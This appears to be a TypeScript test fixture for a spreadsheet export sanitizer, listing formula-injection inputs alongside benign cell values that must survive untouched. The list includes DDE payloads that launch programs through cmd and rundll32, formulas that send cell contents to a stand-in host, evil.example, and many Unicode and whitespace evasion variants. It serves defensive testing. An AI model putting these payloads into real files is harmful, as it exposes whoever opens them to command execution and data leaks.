/** Texts that some spreadsheet program takes, or once took, for a formula, a command or the start of another cell; and a few that look harmless but must survive. */
export const dangerousCells = [
  '=1+1', '+1+1', '-1+1', '@SUM(1+1)', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?x="&A1,"click")', '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")',
  '+cmd|\' /C notepad\'!_xlbgnm.A1', '-2+3+cmd|\' /C calc\'!D2', '@SUM(1+9)*cmd|\' /C calc\'!A0', '=DDE("cmd";"/C calc";"x")', '=rundll32|\'URL.dll,OpenURL calc.exe\'!A', '=1+1\n=2+2',
  '\t=1+1', '\r=1+1', '\n=1+1', '\0=1+1', '\r\n=1+1', '\tplain', '\rplain', '\nplain', '\0plain',
  ' =1+1', '   +1', '\u00A0=1', '\u3000=1', '\u200B=1', '\uFEFF=1', '\u202E=1', '\u2060@x',
  '"=1+1', '""=1+1', "'=1+1", "''=1+1", ';=1+1', ',=1+1', '|=1', '"\t=1', ';;=1', '";=1',
  '\uFF1D1+1', '\uFF0B1', '\uFF0D1', '\uFF20SUM(1)', '\uFE661', '\uFE621', '\uFE631', '\uFE6BSUM', '\u22121',
  'a;=1+1', 'a,=1+1', 'a\t=1+1', 'a\n=1+1', 'a\r\n+1', 'a";"=1', 'x,"=1","y', 'a\0=1', '- one\n- two', '=', '+', '-', '@', "'", "'=", "'-'", "=''",
];

/** What stays exactly as it is. */
export const plainCells = ['', 'Nang Hseng Kham', "O'Brien", "'t Hart", 'rice, +66 kilos', '5 - 3 = 2', 'a@b.example', 'နန်းဆိုင်', '1,5', 'a "quoted" word', 'two\nlines', "it's fine; -5 degrees"];
